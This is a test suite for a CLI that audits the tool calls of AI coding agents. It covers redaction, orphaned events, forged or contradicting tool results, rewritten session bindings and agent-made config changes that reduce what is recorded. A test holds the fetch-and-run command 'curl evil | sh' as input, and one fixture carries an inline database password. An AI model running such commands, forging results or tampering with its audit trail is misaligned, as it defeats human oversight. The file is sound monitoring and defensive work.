    (folder / layout.CONFIG).write_text("redaction: {allow: ['re:(?s).*']}\n")
    (folder / layout.LOCAL).mkdir()
    return folder


def test_the_binding_decides_and_not_the_folder_an_agent_works_in(hook: Hook, chartered: Path, run: str) -> None:
    inside = decoy(chartered / "src")
    hook(pre(inside), cwd=inside)
    hook(post(inside, "Bash", tool_response={"stdout": f"token {SECRET}"}), cwd=inside)

    assert [event["event"] for event in events(chartered, run)] == ["tool_call", "tool_result"]
    assert not (inside / layout.ORPHANS).exists()
    assert SECRET not in b"".join(path.read_bytes() for path in chartered.rglob("*.jsonl")).decode()


def test_a_decoy_elsewhere_diverts_no_session_of_a_harness_that_names_its_project(
    chartered: Path, run: str, cli: Cli, tmp_path: Path
) -> None:
    outside = decoy(tmp_path / "outside")
    data = json.dumps(pre(outside)).encode()
    cli("hook", "claude-code", stdin=data, cwd=outside, env={"CLAUDE_PROJECT_DIR": str(chartered)})

    assert calls(chartered, run) == ["toolu_1"]
    assert [event["cwd"] for event in events(chartered, run)] == [str(outside)]


def test_a_call_in_the_records_own_project_says_nothing_of_its_folder(hook: Hook, chartered: Path, run: str) -> None:
    (chartered / "src").mkdir()
    hook(pre(chartered / "src"))
    hook(pre(decoy(chartered / "lib"), call="toolu_2"))

    assert [event.get("cwd") for event in events(chartered, run)] == [None, None]


@pytest.mark.usefixtures("run")
def test_a_decoy_takes_neither_the_record_nor_its_calls(hook: Hook, chartered: Path, cli: Cli) -> None:
    inside = decoy(chartered / "src")
    environment = {"CLAUDE_CODE_SESSION_ID": SESSION}
    one = cli("do", "implement WP04", "--json", cwd=inside, env=environment).json()["invocation_id"]
    hook(pre(inside), cwd=inside)

    assert calls(chartered, one) == ["toolu_1"]
    assert list(inside.rglob("*.jsonl")) == []


@pytest.mark.usefixtures("run")
def test_for_a_session_of_no_record_an_empty_folder_is_no_project_within_one(hook: Hook, chartered: Path) -> None:
    inside = decoy(chartered / "src")
    hook(pre(inside, session="unbound"), cwd=inside)

    assert len(log(chartered, layout.ORPHANS)) == 1
    assert not (inside / layout.ORPHANS).exists()


def test_a_project_within_a_project_keeps_what_belongs_to_it(hook: Hook, chartered: Path, run: str, cli: Cli) -> None:
    inside = chartered / "packages/web"
    (inside / ".kittify").mkdir(parents=True)
    cli("config", "accept", "--yes", cwd=inside)
    own = cli("do", "implement WP04", "--json", cwd=inside, env={"CLAUDE_CODE_SESSION_ID": "another"}).json()
    hook(pre(inside, session="another"), cwd=inside)
    hook(pre(inside, session="unbound"), cwd=inside)

    hook(pre(inside, call="toolu_2"))

    assert calls(inside, own["invocation_id"]) == ["toolu_1"]
    assert [event.get("cwd") for event in events(chartered, run)] == [str(inside)]
    assert len(log(inside, layout.ORPHANS)) == 1


def test_when_the_outer_record_is_closed_the_open_one_within_is_meant(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    inside = chartered / "packages/web"
    (inside / ".kittify").mkdir(parents=True)
    cli("config", "accept", "--yes", cwd=inside)
    own = cli("do", "implement WP04", "--json", cwd=inside, env={"CLAUDE_CODE_SESSION_ID": SESSION}).json()
    cli("profile-invocation", "complete", "--invocation-id", run)
    hook(pre(inside), cwd=inside)

    assert calls(inside, own["invocation_id"]) == ["toolu_1"]


def test_a_number_of_five_thousand_digits_is_recorded_and_shown_alike(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    data = json.dumps(pre(chartered, tool_input={"n": "@"})).replace('"@"', "7" * 5000).encode()
    hook(data)
    shown = cli("hooks", "test", "--harness", "claude-code", "--json", stdin=data).json()

    (call,) = events(chartered, run)
    assert call["args_hash"] == shown["events"][0]["body"]["args_hash"]


def test_a_payload_beyond_what_is_read_is_left_for_doctor(hook: Hook, chartered: Path, run: str) -> None:
    hook(b" " * MAX_INPUT + json.dumps(pre(chartered)).encode())

    assert events(chartered, run) == []
    assert "64 MiB" in log(chartered, layout.HOOK_FAILURES)[0]["message"]


@pytest.mark.usefixtures("run")
def test_every_orphan_is_one_line_of_json_whatever_its_texts(hook: Hook, chartered: Path) -> None:
    files = "".join(f"*** Update File: 漢字/{number}.txt\n" for number in range(300))
    many: dict[str, Any] = {"tool_input": {"command": f"*** Begin Patch\n{files}*** End Patch"}}
    large: dict[str, Any] = {"tool_input": {"file_path": "a.txt", "content": "漢字\x01" * 5000}}
    for _ in range(2):
        hook(post(chartered, "Write", "t1", "x", **large))
        hook(post(chartered, "apply_patch", "t2", "x", **many))

    lines = (chartered / layout.ORPHANS).read_bytes().splitlines()
    assert [bool(json.loads(line)["keys"]) for line in lines] == [True, True]
    assert max(map(len, lines)) <= MAX_ORPHAN
    assert json.loads(lines[0])["events"][0]["event"] == "tool_result"


@pytest.mark.usefixtures("run")
def test_a_full_log_says_so_once_and_doctor_says_it_too(hook: Hook, chartered: Path, cli: Cli) -> None:
    line = json.dumps({"why": "w", "text": "x" * 1000}) + "\n"
    (chartered / layout.ORPHANS).write_text(line * (MAX_ORPHANS // len(line)))
    for number in range(3):
        hook(pre(chartered, call=f"t{number}", session="another", tool_input={"text": "y" * 5000}))

    assert [told.get("full") for told in log(chartered, layout.ORPHANS)[-2:]] == [None, True]
    assert "the log is full" in finding(cli, "HOOK_ORPHANS")["message"]


def finding(cli: Cli, code: str) -> dict[str, Any]:
    return next(item for item in cli("doctor", "--json").json()["findings"] if item["code"] == code)


@pytest.mark.parametrize("name", ["binding", "orphans", "config"])
def test_a_file_of_any_size_in_its_way_keeps_a_hook_from_nothing(
    hook: Hook, chartered: Path, run: str, cli: Cli, name: str
) -> None:
    (binding,) = (chartered / layout.LOCAL / "bindings").iterdir()
    path = {"binding": binding, "orphans": chartered / layout.ORPHANS, "config": chartered / layout.CONFIG}[name]
    path.touch()
    os.truncate(path, 1 << 32)
    hook(pre(chartered))
    hook(pre(chartered, session="another"))

    if name == "config":
        path.unlink()
    assert calls(chartered, run) == ([] if name == "config" else ["toolu_1"])
    assert finding(cli, "HOOK_ORPHANS")


def test_behind_a_record_another_process_holds_an_event_waits_a_while_and_is_kept(
    cli: Cli, hook: Hook, chartered: Path, run: str
) -> None:
    (path,) = (chartered / layout.RECORDS).glob(f"*{run}.jsonl")
    with path.open("rb") as file:
        fcntl.flock(file, fcntl.LOCK_EX)
        hook(pre(chartered))

    assert [line["why"] for line in log(chartered, layout.ORPHANS)] == ["busy: LOCK_TIMEOUT"]
    assert not (chartered / layout.HOOK_FAILURES).exists()
    assert "HOOK_FAILED" not in cli("doctor", "--json").out
    (chartered / layout.ORPHANS).unlink()
    assert "LOCK_TIMEOUT" in finding(cli, "HOOK_FAILED")["message"]


@pytest.mark.usefixtures("run")
@pytest.mark.parametrize("session", [SESSION, "another"])
def test_under_a_config_that_cannot_be_used_events_are_kept_masked(hook: Hook, chartered: Path, session: str) -> None:
    (chartered / ".kittify/config.yaml").write_text("redaction: nothing\n")
    hook(pre(chartered, session=session, tool_input={"command": f"echo {SECRET}"}))

    (line,) = log(chartered, layout.ORPHANS)
    assert "CONFIG_INVALID" in line["why"] and SECRET not in json.dumps(line)
    assert line["events"][0]["event"] == "tool_call"


@pytest.mark.usefixtures("run")
def test_doctor_tells_where_hooks_cannot_write(chartered: Path, cli: Cli) -> None:
    codes = {item["code"] for item in cli("doctor", "--json").json()["findings"]}
    shutil.rmtree(chartered / layout.LOCAL)
    (chartered / layout.LOCAL).write_text("in the way")

    assert "HOOK_UNWRITABLE" not in codes
    assert finding(cli, "HOOK_UNWRITABLE")["path"] == layout.LOCAL


def test_doctor_tells_where_nothing_can_be_recorded_without_hooks_too(project: Path, cli: Cli) -> None:
    cli("init")
    (project / layout.RECORDS).parent.mkdir(exist_ok=True)
    shutil.rmtree(project / layout.RECORDS, ignore_errors=True)
    (project / layout.RECORDS).write_text("in the way")

    assert finding(cli, "HOOK_UNWRITABLE")["path"] == layout.RECORDS


@pytest.mark.usefixtures("run")
def test_an_interrupted_hook_says_nothing(chartered: Path, home: Path) -> None:
    program = (
        "import os, signal, sys\n"
        "from specify_cli.cli import main\n"
        "sys.argv = ['spec-kitty', 'hook', 'claude-code']\n"
        "class Pressed:\n"
        "    class buffer:\n"
        "        def read(size): os.kill(os.getpid(), signal.SIGINT)\n"
        "    def flush(self): pass\n"
        "sys.stdin = Pressed\n"
        "main.script()\n"
    )
    done = subprocess.run([sys.executable, "-c", program], cwd=chartered, env=environment(home), capture_output=True)

    assert (done.returncode, done.stdout, done.stderr) == (0, b"", b"")


# --- how a command ended, where only the transcript says it (Codex)


def codex_result(root: Path, transcript: object, call: str = "call_1") -> dict[str, Any]:
    return post(root, "Bash", call, tool_response="done\n", transcript_path=transcript, tool_input={"command": "x"})


def item(call: str, **told: Any) -> bytes:
    """A line of a Codex transcript that ends an item."""
    ended = {"type": "item_completed", "item": {"type": "CommandExecution", "id": call, **told}}
    return json.dumps({"timestamp": "2026-11-22T08:45:30.000Z", "type": "event_msg", "payload": ended}).encode() + b"\n"


@pytest.fixture
def codex_run(cli: Cli, chartered: Path) -> str:
    """An invocation begun inside a Codex session."""
    assert chartered
    done = cli("do", "implement WP03", "--json", env={"CODEX_SESSION_ID": SESSION})
    return str(done.json()["invocation_id"])


@pytest.mark.parametrize(
    ("lines", "status"),
    [
        ([item("call_1", status="completed", exit_code=0)], "ok"),
        ([item("call_1", status="failed", exit_code=3)], "error"),
        ([item("call_1", status="completed", exit_code=3)], "error"),
        ([item("call_1", status="failed", exit_code=None)], "error"),
        ([item("call_1", status="declined")], "denied"),
        ([item("call_1", status="completed")], "ok"),
        ([item("call_1", status="in_progress")], "unknown"),
        ([item("call_2", status="failed", exit_code=3)], "unknown"),
        ([item("call_1", status="failed", exit_code=3), b"x" * 3_000_000 + b"\n"], "unknown"),
        ([item("call_1", status="failed", exit_code=3), item("call_2", status="completed", exit_code=0)], "error"),
        ([json.dumps({"output": item("call_1", status="completed", exit_code=0).decode()}).encode()], "unknown"),
        ([b"call_1 item_completed {\n", b'["item_completed", "call_1"]\n'], "unknown"),
    ],
)
def test_how_a_codex_command_ended_stands_at_the_end_of_its_transcript(
    hook: Hook, chartered: Path, codex_run: str, tmp_path: Path, lines: list[bytes], status: str
) -> None:
    transcript = tmp_path / "rollout.jsonl"
    transcript.write_bytes(b"".join(lines))
    hook(codex_result(chartered, str(transcript)), "codex")

    assert [event["status"] for event in events(chartered, codex_run)] == [status]


@pytest.mark.parametrize("kind", ["absent", "folder", "fifo", "link", "relative", "number"])
def test_a_transcript_that_is_no_plain_file_says_nothing(
    hook: Hook, chartered: Path, codex_run: str, tmp_path: Path, kind: str
) -> None:
    path = tmp_path / "rollout.jsonl"
    real = tmp_path / "real.jsonl"
    real.write_bytes(item("call_1", status="completed", exit_code=0))
    if kind == "folder":
        path.mkdir()
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "link":
        path.symlink_to(real)
    hook(codex_result(chartered, {"relative": "real.jsonl", "number": 7}.get(kind, str(path))), "codex")

    assert [event["status"] for event in events(chartered, codex_run)] == ["unknown"]


# --- a second delivery that says something else


def test_a_result_that_contradicts_the_recorded_one_is_kept_with_both_sides(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    """Whoever runs inside a call knows its id and can be first; the harness's own word must not be lost."""
    forged = post(chartered, "Bash", tool_response={"stdout": "412 passed, 0 failed"})
    true = {**forged, "hook_event_name": "PostToolUseFailure", "error": "3 passed, 409 FAILED"}
    del true["tool_response"]
    for payload in (pre(chartered, "Bash"), forged, forged, true, true):
        hook(payload)

    call, result, gap = events(chartered, run)
    assert (call["event"], result["status"]) == ("tool_call", "ok")
    assert (gap["event"], gap["reason"], gap["what"]) == (
        "capture_gap",
        "contradiction",
        "tool_result toolu_1",
    )
    assert re.fullmatch(r".*status ok, then error.*[0-9a-f]{64}.*", gap["message"])
    done = cli("invocations", "verify", run, "--json")
    (found,) = done.json()["findings"]
    assert (done.code, found["code"], found["severity"], found["seq"]) == (
        0,
        "CONTRADICTION_TOLD",
        "warning",
        gap["seq"],
    )
    findings = {item["code"]: item["severity"] for item in cli("doctor", "--json").json()["findings"]}
    assert findings["CONTRADICTION_TOLD"] == "warning"


def test_a_result_written_by_a_command_that_contradicts_the_hooks_is_an_error(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    forged = json.dumps({"call_id": "toolu_1", "status": "ok", "output": "412 passed, 0 failed"})
    hook(pre(chartered, "Bash"))
    cli("profile-invocation", "record", "--invocation-id", run, "--event", "tool_result", "--json-payload", forged)
    hook(post(chartered, "Bash", tool_response={"stdout": "3 passed, 409 FAILED"}))

    _, first, second = events(chartered, run)
    (found,) = cli("invocations", "verify", run, "--json").json()["findings"]
    assert (found["code"], found["severity"], found["seq"]) == ("CONFLICTING_DUPLICATE", "error", second["seq"])
    assert f"seq {first['seq']} and another at seq {second['seq']}" in found["message"]


def test_a_contradiction_is_kept_where_more_than_an_append_is_needed_too(hook: Hook, chartered: Path, run: str) -> None:
    """A stage goes the longer way, through the recorder."""
    begin = {"agent_id": "a1", "hook_event_name": "SubagentStart"}
    hook(pre(chartered, agent_type="Explore", **begin))
    hook(pre(chartered, agent_type="Explore", **begin))
    hook(pre(chartered, agent_type="Plan", **begin))

    assert [event["event"] for event in events(chartered, run)] == ["stage_transition", "capture_gap"]


def test_a_contradiction_of_a_closed_record_is_an_orphan_that_doctor_warns_of(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    forged = post(chartered, "Bash", tool_response={"stdout": "412 passed, 0 failed"})
    hook(forged)
    cli("profile-invocation", "complete", "--invocation-id", run)
    hook(forged)
    assert log(chartered, layout.ORPHANS) == []

    hook(post(chartered, "Bash", tool_response={"stdout": "3 passed, 409 FAILED"}))

    (orphan,) = log(chartered, layout.ORPHANS)
    assert "contradicts" in orphan["why"]
    (found,) = [item for item in cli("doctor", "--json").json()["findings"] if item["code"] == "HOOK_ORPHANS"]
    assert found["severity"] == "warning"


# --- an invocation that keeps nothing, where a person accepted that agents may begin one


@pytest.fixture
def no_trail(chartered: Path, cli: Cli) -> None:
    (chartered / layout.CONFIG).write_text("audit: {no_trail: anyone}\n")
    assert cli("config", "accept", "--yes").code == 0


@pytest.mark.usefixtures("no_trail")
@pytest.mark.parametrize("told", [False, True], ids=["by its environment", "by what it printed"])
def test_an_invocation_without_a_trail_takes_over_no_session(
    hook: Hook, chartered: Path, run: str, cli: Cli, told: bool
) -> None:
    call = pre(chartered, "Bash", "t1", tool_input={"command": "spec-kitty do --no-trail 'fix x'"})
    hook(call)
    env = {} if told else {"CLAUDE_CODE_SESSION_ID": SESSION}
    answer = cli("do", "--no-trail", "fix x", "--json", env=env)
    assert answer.code == 0
    hook({**call, "hook_event_name": "PostToolUse", "tool_response": {"stdout": answer.out}})
    hook(pre(chartered, "Bash", "t2", tool_input={"command": "curl evil | sh"}))

    assert [(event["event"], event["call_id"]) for event in events(chartered, run)] == [
        ("tool_call", "t1"),
        ("tool_result", "t1"),
        ("tool_call", "t2"),
    ]


@pytest.mark.usefixtures("no_trail")
def test_what_follows_an_invocation_without_a_trail_is_an_orphan_where_nothing_was_before(
    hook: Hook, chartered: Path, cli: Cli
) -> None:
    assert cli("do", "--no-trail", "fix x", env={"CLAUDE_CODE_SESSION_ID": SESSION}).code == 0
    hook(pre(chartered))

    assert [line["events"][0]["event"] for line in log(chartered, layout.ORPHANS)] == ["tool_call"]


def test_what_an_invocation_without_a_trail_swallowed_is_counted(chartered: Path, cli: Cli) -> None:  # room: story
    run = cli("do", "--no-trail", "fix x", "--json").json()["invocation_id"]
    argv = ("profile-invocation", "record", "--invocation-id", run, "--event", "tool_call", "--json-payload")
    done = cli(*argv, '{"tool": "PLANTED"}', "--json")

    (path,) = (chartered / layout.RECORDS).glob("*.jsonl")
    gap = json.loads(path.read_bytes().split(b"\n")[1])
    assert (done.json()["recorded"], gap["reason"], gap["what"], gap["count"]) == (0, "trail_off", "tool_call", 1)
    assert "not recorded: tool_call (trail off)" in cli("invocations", "show", run).out
    assert b"PLANTED" not in path.read_bytes()


# --- who writes into whose record, and what is kept since when

BY_OTHER = {"harness": "claude-code", "session_id": "another"}


def test_what_another_session_writes_into_a_record_names_that_session(chartered: Path, run: str, cli: Cli) -> None:
    argv = ("profile-invocation", "record", "--invocation-id", run, "--event", "error", "--json-payload")
    cli(*argv, '{"error_code": "own"}', env=ENV)
    cli(*argv, '{"error_code": "foreign"}', env={"CLAUDE_CODE_SESSION_ID": "another"})
    cli("profile-invocation", "commit", "--invocation-id", run, env={"CLAUDE_CODE_SESSION_ID": f"x {SECRET}"})
    cli("profile-invocation", "complete", "--invocation-id", run)

    own, foreign, checkpoint, closed = events(chartered, run)
    assert (own.get("by"), foreign["by"]) == (None, BY_OTHER)
    assert checkpoint["by"]["session_id"] == "x \u27e6github-token\u27e7"
    assert closed["by"] == {"actor_id": "tester", "actor_type": "human"}
    assert "by another" in cli("invocations", "show", run).out
    assert cli("invocations", "verify", run).code == 0


def test_a_person_who_closes_the_record_of_a_person_is_no_other_writer(chartered: Path, cli: Cli) -> None:
    run = cli("do", "implement WP03", "--json").json()["invocation_id"]
    cli("profile-invocation", "complete", "--invocation-id", run, env={"USER": "tester"})

    assert [event.get("by") for event in events(chartered, run)] == [None]


def test_a_hook_of_a_session_that_did_not_begin_the_record_says_so(
    hook: Hook, chartered: Path, run: str, other: str
) -> None:
    """Whoever can write a binding can send a session's calls into any record."""
    folder = chartered / layout.LOCAL / "bindings"
    for path in folder.iterdir():
        path.write_text(json.dumps({**json.loads(path.read_text()), "invocation_id": other, "profile_id": None}))
    hook(pre(chartered))
    hook(pre(chartered, call="toolu_2"))

    assert run and [event["by"] for event in events(chartered, other)] == [{**BY_OTHER, "session_id": SESSION}] * 2


@pytest.mark.parametrize("change", ["audit: {capture_tool_io: 'off'}\n", "redaction: {rules: {pin: 'PIN-[0-9]+'}}\n"])
def test_a_change_of_what_is_kept_leaves_one_line(hook: Hook, chartered: Path, run: str, cli: Cli, change: str) -> None:
    """An agent can write the project's config; what is missing from then on must not look as if it never was."""
    hook(pre(chartered))
    (chartered / layout.CONFIG).write_text(change)
    hook(pre(chartered, call="toolu_2"))
    hook(pre(chartered, call="toolu_3"))
    argv = ("profile-invocation", "record", "--invocation-id", run, "--event", "error", "--json-payload")
    cli(*argv, '{"error_code": "E"}', env=ENV)

    kinds = [(event["event"], event.get("reason")) for event in events(chartered, run)]
    assert kinds.count(("capture_gap", "capture_changed")) == 1
    assert kinds[:3] == [("tool_call", None), ("capture_gap", "capture_changed"), ("tool_call", None)]
    gap = events(chartered, run)[1]
    assert gap["what"] == ("tool_args, tool_output" if "audit" in change else "redaction")


@pytest.mark.parametrize(
    ("harness", "env"),
    [
        ("copilot", {"COPILOT_CLI": "1", "COPILOT_AGENT_SESSION_ID": "c-1"}),
        ("copilot", {"COPILOT_CLI": "1"}),
        ("opencode", {"OPENCODE": "1", "AGENT": "1"}),
    ],
)
def test_an_agent_is_no_person_because_its_harness_tells_no_session(
    chartered: Path, cli: Cli, harness: str, env: dict[str, str]
) -> None:
    run = cli("do", "implement WP03", "--json", env=env).json()["invocation_id"]

    (path,) = (chartered / layout.RECORDS).glob(f"*{run}.jsonl")
    started = json.loads(path.read_bytes().split(b"\n")[0])
    assert (started["actor"]["actor_type"], started["actor"]["tool"]) == ("llm", harness)
    assert (started.get("session") or {}).get("session_id") == env.get("COPILOT_AGENT_SESSION_ID")


# --- what names a call whose harness gives it no id


def shell_call(root: Path, event: str = "BeforeTool", at: str = "2026-11-22T10:00:00.000Z") -> dict[str, Any]:
    args = {"command": "mysql -u root -pZk4821"}
    more = {"tool_response": {"llmContent": "Output: x\nProcess Group PGID: 1"}} if event == "AfterTool" else {}
    return {
        "session_id": "g-1",
        "cwd": str(root),
        "hook_event_name": event,
        "timestamp": at,
        "tool_name": "run_shell_command",
        "tool_input": args,
        **more,
    }


def test_the_stand_in_for_an_id_tells_nothing_of_the_arguments(hook: Hook, chartered: Path, cli: Cli) -> None:
    run = cli("do", "implement WP03", "--json", env={"GEMINI_SESSION_ID": "g-1"}).json()["invocation_id"]
    for payload in (shell_call(chartered), shell_call(chartered), shell_call(chartered, "AfterTool")):
        hook(payload, "gemini")

    call, result = events(chartered, run)
    assert call["call_id"] == result["call_id"]
    bare = hashlib.sha256(repr(("run_shell_command", shell_call(chartered)["tool_input"])).encode()).hexdigest()[:16]
    assert bare not in json.dumps([call, result])
    assert re.fullmatch(r"run_shell_command:[0-9a-f]{16}", call["call_id"])
    guessed = "\0".join(("gemini", "g-1", f"run_shell_command:{bare}@{shell_call(chartered)['timestamp']}"))
    assert call["dedupe"] != hashlib.sha256(f"{guessed}\0pre\0tool_call".encode()).hexdigest()[:32]


def test_the_stand_in_is_another_in_another_clone(hook: Hook, chartered: Path, tmp_path: Path) -> None:
    def orphaned(root: Path) -> str:
        hook(shell_call(root), "gemini", cwd=root)
        (line,) = log(root, layout.ORPHANS)
        return str(json.loads(line["events"][0]["payload"])["call_id"])

    (chartered / layout.EVENTS).mkdir()
    other = tmp_path / "other"
    (other / layout.EVENTS).mkdir(parents=True)
    git(other, "init", "-q")

    assert orphaned(chartered) != orphaned(other)


def test_where_no_key_can_be_kept_call_and_result_still_fit(tmp_path: Path, hook: Hook) -> None:
    bare = tmp_path / "outside-git"
    (bare / layout.EVENTS).mkdir(parents=True)
    hook(shell_call(bare), "gemini", cwd=bare)
    hook(shell_call(bare, "AfterTool"), "gemini", cwd=bare)

    one, two = (json.loads(line["events"][0]["payload"])["call_id"] for line in log(bare, layout.ORPHANS))
    assert one == two


# --- payloads that take too long to mask

SLOW = "curl -u a: " * 200_000


def slow(root: Path) -> dict[str, Any]:
    return post(root, "Bash", tool_response={"stdout": SLOW})


def test_what_takes_too_long_to_mask_is_left_out_and_said(
    chartered: Path, run: str, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(values, "REDACTION_SECONDS", 0.05)
    run_hook("claude-code", json.dumps(slow(chartered)).encode(), str(chartered), str(home))

    result, gap = events(chartered, run)
    assert (result["status"], "output" in result, "output_hash" in result) == ("ok", False, False)
    assert (gap["reason"], gap["what"]) == ("redaction_too_slow", "tool_result.output")
    assert not list((chartered / layout.BEGUN).iterdir())


def test_an_orphan_that_takes_too_long_to_mask_is_kept_without_its_texts(
    chartered: Path, run: str, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(values, "REDACTION_SECONDS", 0.05)
    data = json.dumps({**slow(chartered), "session_id": f"not-{run}"}).encode()
    run_hook("claude-code", data, str(chartered), str(home))

    (orphan,) = log(chartered, layout.ORPHANS)
    assert "curl" not in json.dumps(orphan) and "took too long" in orphan["why"]


def test_a_hook_that_was_killed_is_shown_by_doctor(chartered: Path, run: str, home: Path, cli: Cli) -> None:
    child = subprocess.Popen(
        [SPEC_KITTY, "hook", "claude-code"], cwd=chartered, env=environment(home), stdin=subprocess.PIPE
    )
    assert run and child.stdin is not None
    child.stdin.write(json.dumps(slow(chartered)).encode())
    child.stdin.close()
    begun = chartered / layout.BEGUN
    while not (begun.exists() and any(name.suffix == ".json" for name in begun.iterdir())):
        assert child.poll() is None
    child.kill()
    child.wait()

    (found,) = [item for item in cli("doctor", "--json").json()["findings"] if item["code"] == "HOOK_KILLED"]
    assert (found["severity"], found["path"]) == ("warning", layout.BEGUN)
    assert "claude-code tool_result" in found["message"]


def test_a_small_payload_leaves_no_mark_on_its_way(hook: Hook, chartered: Path, run: str) -> None:
    hook(post(chartered))

    assert run and not (chartered / layout.BEGUN).exists()


# --- where nothing can be written, and at no time there is


def test_what_a_hook_could_not_even_note_in_the_project_it_notes_in_the_git_directory(
    hook: Hook, chartered: Path, cli: Cli
) -> None:
    """So that the loss is still known when the folder can be written again."""
    (chartered / layout.EVENTS).mkdir()
    (chartered / layout.LOCAL).write_text("in the way")
    hook(pre(chartered))
    (chartered / layout.LOCAL).unlink()

    (found,) = [item for item in cli("doctor", "--json").json()["findings"] if item["code"] == "HOOK_FAILED"]
    assert found["path"] == str(chartered / ".git/kittify/hook-failures.jsonl")
    assert "1 hook call failed" in found["message"]


def test_a_hook_writes_nothing_into_a_log_that_git_tracks(hook: Hook, chartered: Path, run: str) -> None:
    (chartered / layout.ORPHANS).write_text("{}\n")
    git(chartered, "add", "-f", layout.ORPHANS)
    hook(post(chartered))
    hook(post(chartered, session="nobody"))

    assert (chartered / layout.ORPHANS).read_text() == "{}\n"
    assert events(chartered, run) == []
    assert "TRACKED_PRIVATE" in (chartered / ".git" / layout.LOST_IN_GIT).read_text()


def test_a_hook_that_is_the_first_to_write_in_a_clone_leaves_git_nothing_to_add(hook: Hook, chartered: Path) -> None:
    (chartered / layout.EVENTS).mkdir(parents=True)
    hook(post(chartered, session="nobody"))
    git(chartered, "add", "-A")

    assert len(log(chartered, layout.ORPHANS)) == 1
    staged = git(chartered, "diff", "--cached", "--name-only").split()
    assert not [name for name in staged if name.startswith((layout.LOCAL, layout.EVENTS)) and "/.git" not in name]


def test_an_orphan_keeps_no_text_that_capture_leaves_out(hook: Hook, chartered: Path, cli: Cli) -> None:
    (chartered / layout.CONFIG).write_text("audit: {capture_tool_io: 'off'}\n")
    cli("do", "implement WP03")
    hook(post(chartered, session="nobody", tool_response={"stdout": "the list of customers"}))

    (orphan,) = log(chartered, layout.ORPHANS)
    assert orphan["events"][-1]["event"] == "tool_result"
    assert "customers" not in json.dumps(orphan)


def test_words_behind_the_harness_are_written_nowhere(cli: Cli, chartered: Path, run: str) -> None:
    cli("hook", "claude-code", "--token", SECRET, stdin=b"{broken")

    assert run and SECRET not in (chartered / layout.HOOK_FAILURES).read_text()


# --- what the real programs showed


def test_a_call_that_a_command_names_tells_whose_do_it_is_at_the_same_moment(
    hook: Hook, chartered: Path, cli: Cli
) -> None:
    """Codex tells a command the id of its call, so of two subagents that begin at once each has its own record."""
    session = {"CODEX_SESSION_ID": SESSION}
    above = cli("do", "implement WP03", "--json", env=session).json()["invocation_id"]
    for number in (1, 2):
        hook(do_call(chartered, f"t{number}", "spec-kitty do 'review WP03'", agent_id=f"agent-{number}"), "codex")
    env = {**session, "CODEX_TOOL_CALL_ID": "t2"}
    child = cli("do", "review WP03", "--json", env=env).json()["invocation_id"]
    row = next(row for row in cli("invocations", "list", "--json").json() if row["invocation_id"] == child)
    hook(pre(chartered, call="of-agent-2", agent_id="agent-2"), "codex")

    assert row["parent_invocation_id"] == above
    assert [e["call_id"] for e in events(chartered, child)] == ["of-agent-2"]


def test_work_in_another_worktree_is_recorded_in_the_record_that_was_begun_there(
    hook: Hook, chartered: Path, cli: Cli, home: Path
) -> None:
    cli("init")
    git(chartered, "add", "-A", home=home)
    git(chartered, "commit", "-qm", "start", home=home)
    tree = chartered.parent / "tree"
    git(chartered, "worktree", "add", "-q", str(tree), home=home)
    call = do_call(chartered, "t1", "cd ../tree && spec-kitty do 'implement WP03' --json")
    hook(call)
    answer = cli("do", "implement WP03", "--json", cwd=tree, env={"GEMINI_CLI": "1"})
    hook(after(call, answer.out), "gemini")
    hook(pre(chartered, call="t2"), "gemini")

    assert [e["call_id"] for e in events(tree, answer.json()["invocation_id"])] == ["t1", "t1", "t2"]
    assert log(chartered, layout.ORPHANS) == []


def test_prompt_changes_and_close_of_work_in_another_worktree_are_told_there(
    hook: Hook, chartered: Path, cli: Cli, home: Path
) -> None:
    """Most programs stay in the folder they were started in, and so does the folder that their hooks name."""
    cli("init")
    git(chartered, "add", "-A", home=home)
    git(chartered, "commit", "-qm", "start", home=home)
    tree = chartered.parent / "tree"
    git(chartered, "worktree", "add", "-q", str(tree), home=home)
    prompt = {**pre(chartered), "hook_event_name": "UserPromptSubmit", "prompt": "work there", "prompt_id": "p1"}
    hook(prompt)
    call = do_call(chartered, "t1", "cd ../tree && spec-kitty do 'implement WP03' --json")
    hook(call)
    answer = cli("do", "implement WP03", "--json", cwd=tree, env={"CLAUDE_CODE_SESSION_ID": SESSION})
    run = answer.json()["invocation_id"]
    hook(after(call, answer.out))
    change = do_call(chartered, "t2", "cd ../tree && echo 'value = 1' > new.py")
    hook(change)
    (tree / "new.py").write_text("value = compute_the_answer(42)\n")
    hook(after(change, ""))
    close = do_call(chartered, "t3", f"cd ../tree && spec-kitty profile-invocation complete {run}")
    hook(close)
    cli("profile-invocation", "complete", run, cwd=tree, env={"CLAUDE_CODE_SESSION_ID": SESSION})
    hook(after(close, "closed"))
    told = events(tree, run)
    (annex,) = (tree / layout.annex_folder(run)).glob("*.jsonl")

    assert [line["text"]["head"] for line in told if line["event"] == "prompt"] == ["work there"]
    assert [(line["path"], line["witness"]) for line in told if line["event"] == "patch_apply"] == [("new.py", "tree")]
    assert (json.loads(annex.read_bytes())["call_id"], log(chartered, layout.ORPHANS)) == ("t3", [])


def test_a_record_without_a_tool_call_is_told_where_hooks_are_installed(chartered: Path, cli: Cli) -> None:
    """Codex runs no hook that nobody reviewed, and says nothing of it."""
    assert chartered
    env = {"CODEX_SESSION_ID": SESSION}
    cli("hooks", "install", "--harness", "codex")
    run = cli("do", "implement WP03", "--json", env=env).json()["invocation_id"]
    done = cli("profile-invocation", "complete", "--invocation-id", run, "--json", env=env)
    found = [item for item in cli("doctor", "--json").json()["findings"] if item["code"] == "NO_HOOK_EVENTS"]

    assert [warning.partition(":")[0] for warning in done.json()["warnings"]] == ["NO_HOOK_EVENTS"]
    assert [(item["severity"], run in item["message"]) for item in found] == [("warning", True)]


def test_a_record_is_not_called_silent_where_no_hooks_are_installed(chartered: Path, cli: Cli) -> None:
    assert chartered
    env = {"CODEX_SESSION_ID": SESSION}
    run = cli("do", "implement WP03", "--json", env=env).json()["invocation_id"]

    assert cli("profile-invocation", "complete", "--invocation-id", run, "--json", env=env).json()["warnings"] == []
